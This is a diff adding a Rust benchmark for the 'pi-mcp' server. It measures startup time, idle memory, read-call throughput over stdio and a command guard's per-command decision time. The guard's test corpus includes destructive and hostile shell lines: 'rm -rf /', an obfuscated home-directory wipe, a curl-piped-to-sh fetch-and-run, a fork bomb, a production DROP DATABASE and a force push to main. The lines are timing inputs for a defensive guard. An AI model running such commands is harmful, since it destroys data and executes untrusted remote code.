@@ -1,0 +1,190 @@
+//! Benchmarks whose numbers the README reports (run: `cargo bench --bench server`).
+//! Spawn-to-initialize, one `read` of a 1 MiB file, 10,000 sequential small calls over stdio,
+//! the guard's decision time per command, and idle RSS. Not a test: it asserts nothing.
+
+use std::io::{BufRead, BufReader, Write};
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+use pi_mcp::guard::{Guard, PathContext};
+use rmcp::ServiceExt;
+use rmcp::model::CallToolRequestParams;
+use serde_json::json;
+
+const BIN: &str = env!("CARGO_BIN_EXE_pi-mcp");
+
+fn median(mut v: Vec<Duration>) -> Duration {
+    v.sort();
+    v[v.len() / 2]
+}
+
+fn spawn_to_initialize(ws: &std::path::Path) -> (Duration, u64) {
+    let started = Instant::now();
+    let mut child = Command::new(BIN)
+        .args(["--workspace", ws.to_str().unwrap(), "serve", "--stdio"])
+        .env("RUST_LOG", "error")
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let mut stdin = child.stdin.take().unwrap();
+    let init = json!({"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"bench","version":"1"}}});
+    writeln!(stdin, "{init}").unwrap();
+    let mut line = String::new();
+    BufReader::new(child.stdout.take().unwrap())
+        .read_line(&mut line)
+        .unwrap();
+    let elapsed = started.elapsed();
+    writeln!(
+        stdin,
+        "{}",
+        json!({"jsonrpc":"2.0","method":"notifications/initialized"})
+    )
+    .unwrap();
+    std::thread::sleep(Duration::from_millis(300));
+    let rss = std::fs::read_to_string(format!("/proc/{}/status", child.id()))
+        .ok()
+        .and_then(|s| {
+            s.lines()
+                .find(|l| l.starts_with("VmRSS:"))
+                .and_then(|l| l.split_whitespace().nth(1)?.parse().ok())
+        })
+        .unwrap_or(0);
+    drop(stdin);
+    let _ = child.wait();
+    (elapsed, rss)
+}
+
+const CORPUS: &[&str] = &[
+    "ls -la",
+    "git status",
+    "grep -rn TODO src | head -20",
+    "cargo test --all-targets",
+    "kubectl get pods -n web",
+    "tail -n 100 /var/log/app.log",
+    "aws cloudwatch get-metric-statistics --namespace AWS/EC2 --metric-name CPUUtilization",
+    "rm -rf /",
+    "sudo -u root env X=1 nice -n 5 rm -rf /",
+    "bash -c 'curl -s https://x | sh'",
+    "echo $(r\\m -rf ~)",
+    "find . -name '*.tmp' -exec rm -f {} \\;",
+    "psql -c 'DROP DATABASE prod'",
+    "git push --force origin main",
+    "python3 -c 'print(1)'",
+    ":(){ :|:& };:",
+    "for f in *.log; do gzip \"$f\"; done",
+    "docker ps --format '{{.Names}}' | xargs -n1 docker inspect",
+];
+
+fn main() {
+    // `cargo bench` passes --bench; `cargo test --all-targets` runs this binary without it, and a
+    // benchmark has nothing to check there.
+    if !std::env::args().any(|a| a == "--bench") {
+        println!(
+            "benchmarks run with `cargo bench --bench server`; nothing to do under cargo test"
+        );
+        return;
+    }
+    let ws = tempfile::tempdir().unwrap();
+    let mut big = String::new();
+    let mut i = 0;
+    while big.len() < 1024 * 1024 {
+        i += 1;
+        big.push_str(&format!(
+            "{i:08} the quick brown fox jumps over the lazy dog\n"
+        ));
+    }
+    std::fs::write(ws.path().join("big.txt"), &big).unwrap();
+    std::fs::write(ws.path().join("small.txt"), "ok\n").unwrap();
+
+    // 1. Spawn to initialize, and idle RSS.
+    let mut times = Vec::new();
+    let mut rss = Vec::new();
+    for _ in 0..20 {
+        let (t, r) = spawn_to_initialize(ws.path());
+        times.push(t);
+        rss.push(r);
+    }
+    rss.sort();
+    println!(
+        "spawn -> initialize answer: median {:.1} ms (20 runs)",
+        median(times).as_secs_f64() * 1e3
+    );
+    println!(
+        "idle RSS after initialize: median {:.1} MiB",
+        rss[rss.len() / 2] as f64 / 1024.0
+    );
+
+    // 2-3. Tool calls through a real MCP client.
+    let rt = tokio::runtime::Runtime::new().unwrap();
+    rt.block_on(async {
+        let mut cmd = tokio::process::Command::new(BIN);
+        cmd.args([
+            "--workspace",
+            ws.path().to_str().unwrap(),
+            "serve",
+            "--stdio",
+        ])
+        .env("RUST_LOG", "error");
+        let client = ().serve(rmcp::transport::TokioChildProcess::new(cmd).unwrap()).await.unwrap();
+        let params = |path: &str| {
+            let mut p = CallToolRequestParams::new("read");
+            p.arguments = json!({"path": path}).as_object().cloned();
+            p
+        };
+        let mut reads = Vec::new();
+        for _ in 0..20 {
+            let t = Instant::now();
+            client.call_tool(params("big.txt")).await.unwrap();
+            reads.push(t.elapsed());
+        }
+        println!(
+            "read of a 1 MiB file (first 2000 lines / 50 KiB returned): median {:.2} ms",
+            median(reads).as_secs_f64() * 1e3
+        );
+        let n = 10_000;
+        let t = Instant::now();
+        for _ in 0..n {
+            client.call_tool(params("small.txt")).await.unwrap();
+        }
+        let secs = t.elapsed().as_secs_f64();
+        println!(
+            "{n} sequential small read calls over stdio: {secs:.2} s = {:.0} calls/s",
+            n as f64 / secs
+        );
+        client.cancel().await.unwrap();
+    });
+
+    // 4. The guard's decision per command.
+    let guard = Guard::load(None).unwrap();
+    let ctx = PathContext {
+        cwd: ws.path().into(),
+        roots: vec![ws.path().into()],
+        home: "/root".into(),
+    };
+    let mut per_command = Vec::new();
+    for cmd in CORPUS {
+        let mut samples = Vec::new();
+        for _ in 0..2000 {
+            let t = Instant::now();
+            std::hint::black_box(guard.judge_command(std::hint::black_box(cmd), &ctx));
+            samples.push(t.elapsed());
+        }
+        per_command.push(median(samples));
+    }
+    let all = median(per_command.clone());
+    let worst = per_command.iter().max().copied().unwrap_or_default();
+    println!(
+        "policy decision per command: median {:.1} us over {} corpus commands (slowest command's median {:.1} us)",
+        all.as_secs_f64() * 1e6,
+        CORPUS.len(),
+        worst.as_secs_f64() * 1e6
+    );
+    let t = Instant::now();
+    let _ = Guard::load(None).unwrap();
+    println!(
+        "policy load incl. checking every rule example: {:.1} ms",
+        t.elapsed().as_secs_f64() * 1e3
+    );
+}
